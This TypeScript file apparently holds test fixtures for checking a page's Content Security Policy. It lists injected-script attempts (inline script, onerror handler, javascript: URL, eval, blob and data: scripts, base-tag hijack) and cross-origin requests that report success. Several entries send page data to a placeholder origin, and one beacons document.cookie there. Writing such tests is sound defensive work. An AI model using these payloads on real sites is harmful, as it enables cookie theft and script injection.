/**
 * Attacks by injected markup or a compromised script, as code that runs in the page and returns whether the attack
 * succeeded. `otherOrigin` must differ from the page's origin.
 */
export const createHostileAttempts = (otherOrigin: string): Record<string, string> => ({
  'an inline script element': `(() => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.hasRun = true';
    document.head.append(script);
    return waitForRun();
  })()`,
  'an event handler in markup': `(() => {
    document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="globalThis.hasRun = true">');
    return waitForRun();
  })()`,
  'a link with a javascript: URL': `(() => {
    const link = document.createElement('a');
    link.href = 'javascript:globalThis.hasRun = true';
    document.body.append(link);
    link.click();
    return waitForRun();
  })()`,
  'evaluated code': `runLater(() => eval('globalThis.hasRun = true'))`,
  'a function built from a string': `runLater(() => new Function('globalThis.hasRun = true')())`,
  'a timer with a string': `runLater(() => setTimeout('globalThis.hasRun = true', 0))`,
  'a script from another origin': `loadElement('script', { src: '${otherOrigin}/chat/widget.js' })`,
  'a script from a data: URL': `loadElement('script', { src: 'data:text/javascript,globalThis.hasRun=true' })`,
  'a script from a blob': `loadElement('script', { src: URL.createObjectURL(new Blob(['globalThis.hasRun = true'])) })`,
  'a worker from a blob': `new Promise((done) => {
    try {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.onmessage = () => done(true);
      worker.onerror = () => done(false);
    } catch { done(false); }
  })`,
  "the page's own script without a hash": `loadElement('script', { src: document.querySelector('script[src]').src })`,
  "the page's own script with another hash": `loadElement('script', {
    src: document.querySelector('script[src]').src,
    crossOrigin: 'anonymous',
    integrity: 'sha384-${'A'.repeat(64)}',
  })`,
  'a style sheet from another origin': `loadElement('link', { rel: 'stylesheet', href: '${otherOrigin}/mailbox.css' })`,
  'an image from another origin': `loadElement('img', { src: '${otherOrigin.replace('http:', 'https:')}/?' + document.title })`,
  'a background from another origin': `(() => {
    document.body.style.backgroundImage = "url('${otherOrigin.replace('http:', 'https:')}/background')";
    return new Promise((done) => setTimeout(() => done(false), 200));
  })()`,
  'a prefetch from another origin': `loadElement('link', { rel: 'prefetch', href: '${otherOrigin}/?' + document.title })`,
  'a style element in markup': `(() => {
    document.body.insertAdjacentHTML('beforeend', '<style>body { outline: 3px solid rgb(1, 2, 3) }</style>');
    return getComputedStyle(document.body).outlineColor === 'rgb(1, 2, 3)';
  })()`,
  'a request to another origin': `fetch('${otherOrigin}/messages', { mode: 'no-cors' }).then(() => true, () => false)`,
  'a beacon to another origin': `(() => {
    navigator.sendBeacon('${otherOrigin}/messages', document.cookie);
    return false;
  })()`,
  'a different base URL': `(() => {
    const base = document.createElement('base');
    base.href = '${otherOrigin}/';
    document.head.prepend(base);
    return document.baseURI.startsWith('${otherOrigin}');
  })()`,
  'a frame from another origin': `(() => {
    const frame = document.createElement('iframe');
    frame.src = '${otherOrigin}/';
    document.body.append(frame);
    return new Promise((done) => setTimeout(() => {
      try { done(frame.contentDocument !== null && frame.contentDocument.body.childElementCount > 0); } catch { done(false); }
    }, 500));
  })()`,
  'a form submitted to another origin': `(() => {
    const form = document.createElement('form');
    form.action = '${otherOrigin}/messages';
    form.method = 'post';
    document.body.append(form);
    form.submit();
    return new Promise((done) => setTimeout(() => done(location.origin === '${otherOrigin}'), 500));
  })()`,
});

/** Helpers that run in the page before the attempts that use them. */
export const attemptHelpers = `Object.assign(globalThis, {
  hasRun: false,
  waitForRun: () => new Promise((done) => setTimeout(() => done(globalThis.hasRun === true), 300)),
  runLater: (run) => new Promise((done) => setTimeout(() => {
    try { run(); } catch {}
    setTimeout(() => done(globalThis.hasRun === true), 300);
  })),
  loadElement: (name, attributes) => new Promise((done) => {
    const element = Object.assign(document.createElement(name), attributes);
    element.onload = () => done(true);
    element.onerror = () => done(false);
    document.head.append(element);
  }),
})`;
